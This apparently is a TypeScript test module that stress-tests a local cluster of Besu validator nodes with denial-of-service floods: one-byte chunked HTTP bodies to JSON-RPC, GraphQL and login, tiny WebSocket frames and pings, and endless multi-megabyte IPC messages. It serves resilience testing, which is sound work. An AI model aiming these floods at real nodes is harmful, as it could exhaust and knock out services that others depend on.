import { connect } from 'node:net'
import { join } from 'node:path'
import type { Attack, AttackContext } from '../attack.ts'
import { closeAll, type Endpoint, endpointOf, openSocket, type Sockets } from '../sockets.ts'
import { startUplink, type Uplink } from '../uplink.ts'

const SECONDS = 20

/** A connection that the node did not end within so many bytes has cost as much as the node takes from anybody. */
const BYTES_MAX = 20 * 1024 * 1024
const PIECE_BYTES = 60_000

/** What one connection sends: the beginning, and what follows without an end. */
type Kind = { readonly to: Endpoint; readonly begin: string | Uint8Array; readonly unit: Uint8Array }

const CHUNK = Buffer.from('1\r\n \r\n')

const chunked = (to: Endpoint, path: string): Kind => ({
  to,
  begin: `POST ${path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n`,
  unit: CHUNK,
})

const UPGRADE = [
  'GET / HTTP/1.1',
  'Host: localhost',
  'Upgrade: websocket',
  'Connection: Upgrade',
  'Sec-WebSocket-Version: 13',
  'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
  '',
  '',
].join('\r\n')

/** Sends until the node ends the connection; false where it took all. */
const flood = (sockets: Sockets, uplink: Uplink, { to, begin, unit }: Kind): Promise<boolean> =>
  new Promise(resolve => {
    const socket = openSocket(sockets, to, begin)
    const piece = Buffer.concat(
      Array.from({ length: Math.floor(PIECE_BYTES / unit.length) }, () => Buffer.from(unit)),
    )
    let sent = 0
    const write = (): void => {
      while (socket.writable && sent < BYTES_MAX && uplink.isFree(write)) {
        sent += piece.length
        uplink.take(piece.length)
        if (!socket.write(piece)) return
      }
      if (sent >= BYTES_MAX) socket.destroy()
    }
    socket.on('drain', write)
    socket.on('close', () => resolve(sent < BYTES_MAX))
    socket.once('connect', write)
  })

/** Floods each validator with each kind, again and again. */
const floodAll = async (
  { cluster, say }: AttackContext,
  kindsOf: (index: number) => readonly Kind[],
): Promise<readonly string[]> => {
  const sockets: Sockets = { open: new Set(), ended: 0, refused: 0 }
  const uplink = startUplink()
  const untilMs = performance.now() + SECONDS * 1000
  let taken = 0
  const repeat = async (kind: Kind): Promise<void> => {
    while (performance.now() < untilMs) if (!(await flood(sockets, uplink, kind))) taken++
  }
  const timer = setTimeout(() => closeAll(sockets), (SECONDS + 1) * 1000)
  await Promise.all(cluster.running().flatMap(index => kindsOf(index).map(repeat)))
  clearTimeout(timer)
  uplink.stop()
  closeAll(sockets)
  say(`${sockets.ended} connections were ended; ${taken} had sent ${BYTES_MAX / 1024 / 1024} MiB by then`)
  return taken === 0 ? [] : [`${taken} connections were not ended`]
}

const shortChunks: Attack = {
  name: 'short-chunks',
  what: `Sends bodies in chunks of one byte to JSON-RPC, GraphQL and the login of all four validators, for ${SECONDS} seconds.`,
  network: { args: ['--logging-format=PLAIN', '--graphql-http-enabled', '--graphql-http-port=0'] },
  run: context =>
    floodAll(context, index => {
      const { url, graphqlUrl = url } = context.cluster.node(index)
      const rpc = endpointOf(url)
      return [chunked(rpc, '/'), chunked(endpointOf(graphqlUrl), '/graphql'), chunked(rpc, '/login')]
    }),
}

const shortFrames: Attack = {
  name: 'short-frames',
  what: `Sends WebSocket messages of one character and pings to all four validators, for ${SECONDS} seconds.`,
  network: { args: ['--logging-format=PLAIN', '--rpc-ws-enabled', '--rpc-ws-port=0'] },
  run: context =>
    floodAll(context, index => {
      const { wsUrl = '' } = context.cluster.node(index)
      const to = endpointOf(wsUrl.replace('ws:', 'http:'))
      return [
        { to, begin: UPGRADE, unit: Uint8Array.of(0x81, 0x81, 0, 0, 0, 0, 0x78) },
        { to, begin: UPGRADE, unit: Uint8Array.of(0x89, 0x80, 0, 0, 0, 0) },
      ]
    }),
}

const LINES = 120
const LINE_LENGTH = 4_900_000

const isAnswered = (path: string): Promise<boolean> =>
  new Promise(resolve => {
    const socket = connect(path, () => socket.write('{"jsonrpc":"2.0","id":1,"method":"eth_chainId"}'))
    socket.setTimeout(10_000, () => socket.destroy())
    socket.once('data', () => {
      resolve(true)
      socket.destroy()
    })
    socket.on('error', () => undefined)
    socket.once('close', () => resolve(false))
  })

const unfinishedLines: Attack = {
  name: 'unfinished-lines',
  what: `Opens ${LINES} connections over IPC, each with ${LINE_LENGTH / 1e6} MB of a message that never ends.`,
  network: { args: ['--logging-format=PLAIN', '--Xrpc-ipc-enabled'] },
  // What is read, twice until the collector has run, beside the messages that may be held.
  limits: { growthMb: 256 },
  run: async ({ cluster, say }) => {
    const path = join(cluster.dataPath(1), 'besu.ipc')
    const line = `{"a":"${'x'.repeat(LINE_LENGTH)}`
    const sockets = Array.from({ length: LINES }, () => {
      const socket = connect(path, () => socket.write(line))
      socket.on('error', () => undefined)
      return socket
    })
    await Bun.sleep((SECONDS * 1000) / 2)
    const isServed = await isAnswered(path)
    say(`${sockets.filter(({ closed }) => closed).length} of ${LINES} connections were closed`)
    for (const socket of sockets) socket.destroy()
    return isServed ? [] : ['another program got no answer over IPC']
  },
}

/** Inputs whose price is in their number, not in their length. */
export const SHORT_UNITS: readonly Attack[] = [shortChunks, shortFrames, unfinishedLines]
